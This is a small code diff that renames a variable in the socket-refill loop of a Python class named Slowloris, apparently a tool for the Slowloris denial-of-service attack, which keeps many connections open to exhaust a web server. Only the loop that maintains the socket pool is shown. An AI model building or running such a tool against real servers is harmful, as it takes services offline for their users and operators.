@@ -103,9 +103,9 @@ class Slowloris:
                 alive.append(s)
             socks = alive
             while len(socks) < self.n and not self.stop.is_set():
-                if (s := self._open()) is None:
+                if (fresh := self._open()) is None:
                     break
-                socks.append(s)
+                socks.append(fresh)
             time.sleep(0.05)
         for s in socks:
             s.close()
